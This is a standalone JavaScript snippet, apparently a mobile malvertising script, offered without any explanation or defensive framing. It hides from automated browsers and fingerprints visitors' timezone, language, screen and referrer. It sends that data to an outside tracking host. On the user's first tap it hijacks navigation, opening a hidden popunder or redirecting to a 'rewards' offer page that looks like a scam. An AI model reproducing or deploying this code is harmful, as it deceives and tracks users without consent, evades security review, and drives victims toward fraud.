(function () {
  var ua = navigator.userAgent;
  var isMobile = /Android|iPhone|iPad|iPod|Mobile|Opera Mini|IEMobile/i.test(ua);
  var hasTouch = 'ontouchstart' in window || (navigator.maxTouchPoints || 0) > 1;
  var small = Math.min(screen.width, screen.height) <= 820;
  if (!isMobile || !hasTouch || !small || navigator.webdriver) return;
  if (document.cookie.indexOf('_pu_seen=1') !== -1) return;

  var landing = 'https://mobi-rewards-center.top/offer/?c=rt77';
  var fp = {
    z: Intl.DateTimeFormat().resolvedOptions().timeZone || '',
    l: navigator.language,
    d: screen.width + 'x' + screen.height + '@' + (window.devicePixelRatio || 1),
    o: /iPhone|iPad|iPod/.test(ua) ? 'ios' : 'android',
    r: document.referrer
  };

  var ping = new Image();
  ping.src = 'https://stat.pushroute-tds.pw/m/hit?d=' + encodeURIComponent(JSON.stringify(fp));

  function fire() {
    document.removeEventListener('touchend', fire, true);
    document.removeEventListener('click', fire, true);
    var exp = new Date(Date.now() + 12 * 3600 * 1000).toUTCString();
    document.cookie = '_pu_seen=1; expires=' + exp + '; path=/';
    var target = landing + '&tz=' + encodeURIComponent(fp.z) + '&os=' + fp.o;
    var w = window.open(target, '_blank');
    if (!w) {
      window.location.href = target;
    } else {
      try { w.blur(); window.focus(); } catch (e) {}
    }
  }

  document.addEventListener('touchend', fire, true);
  document.addEventListener('click', fire, true);
})();
